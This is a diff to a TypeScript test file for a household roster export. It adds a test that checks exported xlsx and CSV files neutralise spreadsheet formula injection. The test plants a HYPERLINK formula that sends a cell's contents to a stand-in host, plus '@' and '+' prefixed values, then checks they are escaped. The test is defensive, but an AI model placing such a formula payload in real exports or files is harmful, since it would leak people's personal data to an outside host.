@@ -1,13 +1,15 @@
-import { createWriteStream, mkdtempSync } from 'node:fs';
+import { createWriteStream, mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { sql } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { ALL, divisionScope, type DataScope } from '../../auth/scope.ts';
 import { selectRows } from '../../db/sql.ts';
 import type { Store } from '../../db/store.ts';
 import { describeStores, openTestStore } from '../../../test/support/stores.ts';
 import { importHouseholds } from '../import/import.service.ts';
+import { FORMULA_REASON } from '../import/roster-rows.ts';
 import { openSource } from '../import/source.ts';
 import {
   HUANGPU_COMMITTEE,
@@ -25,9 +27,9 @@ const TODAY = '2026-11-22';
 async function exportToFile(
   store: Store,
   query: HouseholdExportQuery,
-  options: { scope?: DataScope; unmask?: boolean; pageSize?: number } = {},
+  options: { scope?: DataScope; unmask?: boolean; pageSize?: number; format?: 'xlsx' | 'csv' } = {},
 ) {
-  const path = join(dir, `e${fileNo++}.xlsx`);
+  const path = join(dir, `e${fileNo++}.${options.format ?? 'xlsx'}`);
   const out = createWriteStream(path);
   const finished = new Promise<void>((resolve, reject) =>
     out.on('finish', () => resolve()).on('error', reject),
@@ -35,7 +37,13 @@ async function exportToFile(
   const result = await exportHouseholds(
     store,
     query,
-    { scope: options.scope ?? ALL, unmask: options.unmask ?? false, actor, pageSize: options.pageSize ?? 3 },
+    {
+      scope: options.scope ?? ALL,
+      unmask: options.unmask ?? false,
+      actor,
+      pageSize: options.pageSize ?? 3,
+      format: options.format ?? 'xlsx',
+    },
     out,
   );
   await finished;
@@ -141,6 +149,54 @@ describeStores('roster export', (ctx) => {
     const byName = await count({ name: person!.name });
     expect(byName).toBeGreaterThan(0);
     expect(await count({ name: person!.name_initials.toUpperCase() })).toBeGreaterThanOrEqual(byName);
+  });
+
+  it('writes no cell a spreadsheet would run, in xlsx and CSV; re-read, the values come back', async () => {
+    // Values the import refuses, stored by some other path: the export must still not arm them.
+    const formula = '=HYPERLINK("http://x.example/?d="&A2,"点我")';
+    await ctx.store.db.execute(
+      sql`update households set address = ${formula} where household_no = 'EXA-0000004'`,
+    );
+    await ctx.store.db.execute(sql`update persons set name = '@SUM(1)', phone = '+86 13800000000'
+      where id in (select person_id from household_members m join households h on h.id = m.household_id
+                   where h.household_no = 'EXA-0000004' and m.relation_code = '02')`);
+    const query = { householdNos: ['EXA-0000004'] };
+    const xlsx = await exportToFile(ctx.store, query, { unmask: true });
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.readFile(xlsx.path);
+    const head = book.worksheets[0]!.getRow(2);
+    expect([head.getCell(3).value, head.getCell(9).value, head.getCell(10).value]).toEqual([
+      "'@SUM(1)",
+      `'${formula}`,
+      "'+86 13800000000",
+    ]);
+    book.worksheets[0]!.eachRow((row) =>
+      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
+    );
+    const csv = await exportToFile(ctx.store, query, { unmask: true, format: 'csv' });
+    const text = readFileSync(csv.path, 'utf8');
+    expect(text.startsWith('\uFEFF户编号,')).toBe(true);
+    expect(text).toContain(`,'@SUM(1),`);
+    expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
+    expect(text).toContain(`,'+86 13800000000,`);
+    const fields = text.split(/[\r\n]+/).flatMap((line) => line.split(','));
+    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
+    // Our import reads the apostrophe as the export's: the phone comes back whole, the formulas are refused.
+    for (const path of [xlsx.path, csv.path]) {
+      const report = await importHouseholds(empty.store, path, {
+        scope: ALL,
+        actor,
+        dryRun: true,
+        today: TODAY,
+      });
+      // The address is on each member's row (three), the name on the head's.
+      expect(report.errors.map((e) => [e.column, e.reason])).toEqual([
+        ['姓名', FORMULA_REASON],
+        ['地址', FORMULA_REASON],
+        ['地址', FORMULA_REASON],
+        ['地址', FORMULA_REASON],
+      ]);
+    }
   });
 
   it('records the export in the audit log', async () => {
